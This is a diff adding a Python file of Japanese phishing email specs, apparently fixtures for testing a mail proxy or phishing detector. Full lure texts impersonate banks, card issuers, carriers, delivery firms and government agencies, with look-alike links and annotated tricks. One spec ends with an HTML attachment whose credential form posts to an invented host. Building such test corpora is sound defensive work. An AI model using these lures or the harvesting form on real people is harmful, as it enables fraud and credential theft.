@@ -1,0 +1,162 @@
+# Phishing specs for ja-proxy12. All phishing domains below are invented.
+from make import M
+from lib import *
+
+DOC = 'hanako.s-0423@docomo.ne.jp'; EZ = 'taro.y1968@ezweb.ne.jp'; AU = 'kenji-m77@au.com'; SB = 'yui.k.0815@softbank.ne.jp'
+ISB = 'mika_h.2001@i.softbank.jp'; IC = 'ryo.tnk@icloud.com'; YH = 'sachiko_n55@yahoo.co.jp'; GM = 'daisuke.ogw@gmail.com'
+NF = 'kaz-w@nifty.com'; BG = 'emi.f-2010@biglobe.ne.jp'; OCN = 'hiroshi.a3@ocn.ne.jp'
+
+
+def forged(mf, spf='pass', host=None):
+    return dict(mf=mf, spf=spf, dkim='none', dmarc='fail', host=host or 'vps%s.%s' % (h(mf, 3), mf))
+
+
+def look(dm='pass'):
+    return dict(dmarc=dm)
+
+
+def free(dom='gmail.com'):
+    return dict(mf=dom, dkim_d=dom, host='mail-sor-f41.google.com' if dom == 'gmail.com' else 'smtp.' + dom)
+
+
+P = 'phish'
+
+M(P, 'amazon-prime-suspended-forged-from-dmarc-fail-docomo', 'Amazon.co.jp', ('Amazon.co.jp', 'account-update@amazon.co.jp'), DOC,
+  'Amazonプライム会員資格の停止に関するお知らせ',
+  'Amazon お客様\n\nお支払いに使用されているクレジットカードの有効期限が切れているため、プライム会員資格を一時停止しました。\n'
+  '24時間以内にお支払い情報を更新いただけない場合、アカウントは制限されます。\n\n[[お支払い情報を更新する|https://amazon-co-jp.acc-verify-prime.top/ap/signin?openid=jp]]\n\n'
+  'Amazon.co.jp カスタマーサービス', auth=forged('kz3-sendmail.com'),
+  tricks='From spoofs amazon.co.jp; SPF passes for unrelated envelope domain; DKIM none; DMARC fail; 24h urgency; recipient on docomo.ne.jp')
+
+M(P, 'rakuten-card-usage-check-lookalike-passing-dmarc-gmail', '楽天カード', ('楽天カード株式会社', 'info@rakuten-card-jp.info'), GM,
+  '【楽天カード】カードご利用内容の確認のお願い',
+  '楽天カードをご利用いただきありがとうございます。\n\nお客様のカードにおいて、第三者による不正利用の可能性がある取引を検知しました。\n'
+  'ご本人様のご利用かどうか、下記よりご確認ください。\n\n■ご利用日：2025/02/03\n■ご利用金額：98,400円\n\n[[ご利用内容を確認する|https://www.rakuten-card-jp.info/e-navi/login]]\n\n'
+  'ご確認いただけない場合、カードのご利用を制限させていただきます。\n\n楽天カード株式会社', cs='jis', cte='7bit', mime='html', auth=look('pass'),
+  tricks='look-alike domain rakuten-card-jp.info with its own SPF/DKIM/DMARC pass; fake fraud-detection; HTML-only ISO-2022-JP')
+
+M(P, 'smbc-account-frozen-sms-style-outlook-sender-softbank', '三井住友銀行', ('三井住友銀行', 'smbc-kinkyu.2025@outlook.jp'), SB,
+  '【三井住友銀行】取引を一時制限しました',
+  '【三井住友銀行】お客様の口座で不審な取引を検知したため、取引を一時制限しました。解除はこちら https://smbc-direct.kaijo-tetsuzuki.com/ ',
+  mime='plain', cte='8bit', auth=dict(mf='outlook.jp', dkim_d='outlook.jp', host='TYVP286CU001.outbound.protection.outlook.com'),
+  tricks='SMS-style one-liner; free-mail sender (outlook.jp) with display name of the bank; bank look-alike subdomain host')
+
+M(P, 'aeon-card-reauth-forged-from-shiftjis-html-ezweb', 'イオンカード', ('イオンカード', 'info@aeon.co.jp'), EZ,
+  '【重要】イオンカード 本人認証サービス再設定のお願い',
+  'イオンカードをご利用のお客様へ\n\nセキュリティ強化のため、本人認証サービス（3Dセキュア）の再設定をお願いしております。\n'
+  '期限：2025年3月31日\n期限までに手続きがない場合、カードのご利用を停止いたします。\n\n[[https://www.aeon.co.jp/login/|https://aeon-co-jp.3ds-saisettei.xyz/login/]]\n\nイオンクレジットサービス株式会社',
+  cs='sjis', cte='8bit', mime='html', auth=forged('hkt-mail.cn', spf='softfail'),
+  tricks='UNSURE: aeon.co.jp as sender; forged From; DMARC fail; link text shows official URL while href goes elsewhere; Shift_JIS 8bit HTML-only')
+
+M(P, 'mufg-jis-cp932-circled-digits-raw-jis-display-name', '三菱UFJ銀行', ('三菱ＵＦＪ銀行㈱', 'direct@bk-mufg-jp.com'), NF,
+  '三菱ＵＦＪ銀行　お取引目的等のご確認',
+  '三菱ＵＦＪ銀行をご利用いただき、誠にありがとうございます。\n\n犯罪収益移転防止法に基づき、以下の項目についてご確認をお願いいたします。\n'
+  '　①ご職業\n　②お取引の目的\n　③ご本人確認書類\n\n下記URLよりご回答ください。\nhttps://bk-mufg-jp.com/kakunin/index.php?id=88123\n\n'
+  '※ご回答がない場合、お取引を制限させていただく場合がございます。\n㈱三菱ＵＦＪ銀行',
+  cs='jis', cte='7bit', mime='plain', raw_name=True, auth=look('none'),
+  tricks='CP932 extension chars ①②③㈱ in ISO-2022-JP; raw (unencoded) JIS display name; look-alike bk-mufg-jp.com, DMARC none; AML-check pretext')
+
+M(P, 'myjcb-zero-width-subject-forged-icloud', 'JCB', ('MyJCB', 'mail@qa.jcb.co.jp'), IC,
+  'My\u200bJCB　ご利用\u200b確認のお願い',
+  'MyJCBをご利用のお客様\n\nお客様のカードで高額なご利用がありました。\nお心当たりがない場合は、至急ご確認ください。\n\n[[MyJCBにログイン|https://my-jcb.cc-riyou-kakunin.net/iss-pc/member/]]\n\nJCB\u200bカード',
+  cs='utf-8', cte='quoted-printable', auth=forged('mailer-ff3.ru', spf='neutral'),
+  tricks='zero-width spaces inside brand name in subject and body; forged qa.jcb.co.jp with DMARC fail; iCloud multi-line Authentication-Results')
+
+M(P, 'yamato-absent-notice-mother-forwards-iphone', 'ヤマト運輸', ('ヤマト運輸', 'info@kuroneko-yamato-jp.com'), 'yoko.s.1955@icloud.com',
+  'お荷物お届けのお知らせ（ご不在）',
+  'お客様のお荷物をお届けにあがりましたが、ご不在のため持ち帰りました。\n再配達のご依頼は下記よりお願いします。\n\n[[再配達受付|https://kuroneko-yamato-jp.com/saihaitatsu/?no=4728-1190-3365]]\n\n伝票番号：4728-1190-3365\nヤマト運輸株式会社',
+  mime='plain', cte='base64', auth=look('none'),
+  wrap=dict(kind='iphone', by=('山田陽子', 'yoko.s.1955@icloud.com'), to='a.yamada.work@gmail.com', note='これ何か届いてるのかな？\n押して大丈夫？',
+            auth=dict(host='p00-icloudmta-asmtp-us-west-2a-100-percent-2.p00-icloudmta-asmtp-vip.icloud-mail-production.svc.kube.us-west-2a.k8s.cloud.apple.com', dkim_d='icloud.com'),
+            desc='mother forwards phish from iPhone (転送されたメッセージ) with note asking if it is safe'),
+  tricks='look-alike domain kuroneko-yamato-jp.com')
+
+M(P, 'sagawa-redelivery-qr-code-image-yahoo', '佐川急便', ('佐川急便株式会社', 'no-reply@sagawa-exp-jp.com'), YH,
+  '【佐川急便】お荷物の配達について',
+  'いつも佐川急便をご利用いただきありがとうございます。\n\nお荷物の宛先住所に不備があり、配達できませんでした。\n下記のQRコードをスマートフォンで読み取り、住所の確認をお願いします。\n\n'
+  '（QRコードが表示されない場合）[[こちら|https://sagawa-exp-jp.com/check?tr=3019]]\n\n佐川急便株式会社',
+  cs='utf-8', cte='base64', mime='html', related=True,
+  pre='<p style="text-align:center"><img src="cid:logo@sagawa-redelivery-qr-code-image-yahoo" width="220" height="220" alt="QRコード"></p>\n',
+  auth=look('none'), tricks='QR code image (inline cid, placeholder PNG) as main call to action; look-alike domain; address-problem lure')
+
+M(P, 'japanpost-customs-fee-euc-jp-biglobe', '日本郵便', ('日本郵便', 'notice@japanpost-kanzei.com'), BG,
+  '国際郵便物の関税お支払いのお願い',
+  '日本郵便です。\n\nお客様宛の国際郵便物が税関に留め置かれています。\n関税（２４０円）のお支払いが確認でき次第、配達いたします。\n\n'
+  'お支払い：https://japanpost-kanzei.com/pay/?id=JP8830021\n\nお支払い期限：本メール受信後４８時間以内\n\n日本郵便株式会社',
+  cs='euc', cte='8bit', mime='plain', auth=look('none'),
+  tricks='EUC-JP 8bit text/plain; small customs-fee card harvest; invented domain japanpost-kanzei.com')
+
+M(P, 'nta-etax-refund-forged-go-jp-nifty', '国税庁', ('国税庁', 'info@e-tax.nta.go.jp'), 'k.wata-2@nifty.com',
+  '【国税庁】所得税の還付金についてのお知らせ',
+  '納税者様\n\n令和６年分の所得税還付金（32,100円）の受け取り手続きが完了していません。\n下記より受取口座をご登録ください。\n\n[[還付金受取手続き|https://e-tax-nta.kanpu-uketori.com/refund]]\n\n国税庁　e-Tax',
+  cs='jis', cte='7bit', mime='alt', auth=forged('mta.send-jp-mail.net', spf='pass'),
+  tricks='forged government go.jp sender, DMARC fail; tax refund lure; ISO-2022-JP alternative')
+
+M(P, 'mynaportal-health-insurance-card-lookalike', 'マイナポータル', ('マイナポータル', 'support@mynaportal-kakunin.com'), DOC,
+  '【マイナポータル】マイナ保険証の利用登録が未完了です',
+  'マイナンバーカードの健康保険証利用登録が完了していません。\n2025年12月以降、従来の保険証は使用できなくなります。\n\n'
+  '下記より本日中に登録を完了してください。\n[[登録手続きへ進む|https://mynaportal-kakunin.com/hoken/]]\n\nデジタル庁　マイナポータル運営事務局',
+  auth=look('none'), tricks='government-themed look-alike; deadline pressure about health-insurance card transition')
+
+M(P, 'tepco-unpaid-callback-number-no-link', '東京電力エナジーパートナー', ('東京電力EP 料金センター', 'ryokin-center@tepco-ryokin.jp'), OCN,
+  '【重要】電気料金未払いによる送電停止のお知らせ',
+  'ご契約者様\n\n電気料金（２か月分）のお支払いが確認できておりません。\n本日17時までにご連絡がない場合、送電を停止いたします。\n\n'
+  'お問い合わせ：料金センター　050-3188-42XX（受付 9:00-20:00）\n\n東京電力エナジーパートナー株式会社',
+  mime='plain', cte='base64', cs='utf-8', auth=look('none'),
+  tricks='call-back scam: no link, phone number only (digits masked XX); supply cut-off threat; utility impersonation')
+
+M(P, 'docomo-dpoint-expire-to-docomo-subscriber', 'NTTドコモ', ('ドコモ', 'info@docomo-dpoint-jp.com'), 'm.kato-77@docomo.ne.jp',
+  '【dポイント】失効予定ポイントのお知らせ',
+  'いつもドコモをご利用いただきありがとうございます。\n\nお客様の保有dポイントのうち 12,850pt が 2025年6月30日に失効します。\n'
+  '下記よりポイント交換手続きを行ってください。\n\n[[dポイントクラブにログイン|https://docomo-dpoint-jp.com/login/daccount]]\n\nNTTドコモ',
+  cs='sjis', cte='base64', mime='alt', auth=look('none'),
+  tricks='carrier impersonation delivered to a docomo.ne.jp subscriber; point-expiry lure; Shift_JIS base64')
+
+M(P, 'au-pay-card-lock-ezweb-machine-translated', 'au PAY カード', ('au PAY カード', 'service@aupay-card-kddi.com'), EZ,
+  'au PAY カード ご利用制限のお知らせ',
+  'お客様のアカウントは、セキュリティ上の理由によりロックされています。\nお客様の情報を確認するため、以下のリンクをクリックして確認してください。\n'
+  'あなたの情報が確認できない場合、アカウントは永久に使用できなくなります。\n\n[[今すぐ確認|https://aupay-card-kddi.com/verify]]\n\nKDDI株式会社 au PAY カード株式会社',
+  cs='utf-8', cte='8bit', mime='html', auth=look('none'),
+  tricks='machine-translated Japanese (あなたの情報/永久に); HTML-only UTF-8 8bit; look-alike domain')
+
+M(P, 'softbank-bill-unpaid-i-softbank-sms-style', 'ソフトバンク', ('SoftBank', 'softbank.kakunin@yahoo.co.jp'), ISB,
+  '料金未納のお知らせ',
+  '【SoftBank】ご利用料金のお支払いが確認できません。本日中にお手続きください。https://mysoftbank-pay.com/ryokin',
+  mime='plain', cte='base64', auth=dict(mf='yahoo.co.jp', dkim_d='yahoo.co.jp', host='sonicgw.mail.yahoo.co.jp'),
+  tricks='SMS-style text to i.softbank.jp; free-mail (yahoo.co.jp) sender with SoftBank display name')
+
+M(P, 'icloud-storage-full-photos-deleted-icloud', 'Apple iCloud', ('iCloud', 'noreply@icloud-storage-jp.com'), IC,
+  'iCloudストレージの容量がいっぱいです：写真とビデオは削除されます',
+  'お客様のiCloudストレージはいっぱいです。\nお支払い方法に問題があったため、ストレージプランを更新できませんでした。\n\n'
+  'あなたの写真とビデオは 2025/05/20 に削除されます。\n\n[[ストレージを50GBに無料でアップグレード|https://icloud-storage-jp.com/upgrade?u=r.tnk]]\n\nApple',
+  mime='html', cte='quoted-printable', auth=look('pass'),
+  tricks='storage-full fear lure sent to an icloud.com mailbox; look-alike sender with full SPF/DKIM/DMARC pass')
+
+M(P, 'netflix-payment-update-machine-translated-gmail', 'Netflix', ('Netflix', 'info@netflix-account-help.com'), GM,
+  'お支払いに問題があります - アカウントは保留中です',
+  'こんにちは、\n\n私たちはあなたの次の請求サイクルのためにあなたの支払い情報を検証することができませんでした。\n'
+  'サービスの中断を避けるために、あなたの支払いの詳細を更新してください。\n\n[[アカウントを更新する|https://netflix-account-help.com/jp/billing]]\n\n-Netflixチーム',
+  mime='alt', cte='base64', auth=look('none'),
+  tricks='stiff machine-translated Japanese; streaming billing lure')
+
+M(P, 'paypay-refund-procedure-lookalike-softbank', 'PayPay', ('PayPay', 'campaign@paypay-henkin.jp'), SB,
+  '【PayPay】返金手続きのご案内',
+  'PayPayをご利用いただきありがとうございます。\n\nシステム障害により二重決済が発生したお客様に、返金（3,980円）を行っております。\n'
+  '返金を受け取るには、下記よりPayPayアカウントにログインしてください。\n\n[[返金を受け取る|https://paypay-henkin.jp/refund/login]]\n\nPayPay株式会社',
+  cs='jis', cte='7bit', mime='plain', auth=look('none'), tricks='refund scam (double charge); invented .jp look-alike')
+
+M(P, 'line-account-verify-gmail-freemail-sender-yahoo', 'LINE', ('LINE運営事務局', 'line.support.jp2025@gmail.com'), YH,
+  'LINEアカウントの本人確認',
+  'LINEをご利用いただきありがとうございます。\n\nお客様のアカウントが他の端末からログインされました。\nアカウント保護のため、下記より本人確認をお願いします。\n\n'
+  'https://line-me-auth.com/verify\n\nLINEヤフー株式会社',
+  mime='plain', cte='base64', auth=free(), tricks='free-mail gmail.com sender with brand display name, SPF/DKIM/DMARC pass for gmail.com')
+
+M(P, 'microsoft365-password-expire-html-attachment-ocn', 'Microsoft 365', ('Microsoft 365 管理センター', 'admin@m365-notice-center.com'), OCN,
+  'パスワードの有効期限が本日切れます',
+  'ご利用中の Microsoft 365 アカウント（hiroshi.a3@ocn.ne.jp）のパスワードは本日有効期限が切れます。\n\n'
+  '現在のパスワードを維持するには、添付のファイルを開いて確認してください。\n\nMicrosoft 365 チーム',
+  mime='plain', cte='base64',
+  attach=[('text/html', ('<html><head><meta charset="utf-8"><title>Microsoft サインイン</title></head><body>'
+           '<form action="https://m365-notice-center.com/p/collect.php" method="post"><p>パスワードを確認してください</p>'
+           '<input name="email" value="hiroshi.a3@ocn.ne.jp"><input type="password" name="pw"><button>サインイン</button></form></body></html>').encode(), 'パスワード更新_Microsoft.html')],
+  auth=look('none'), tricks='HTML attachment with credential form posting to invented domain; Japanese attachment filename (RFC2047 in param)')
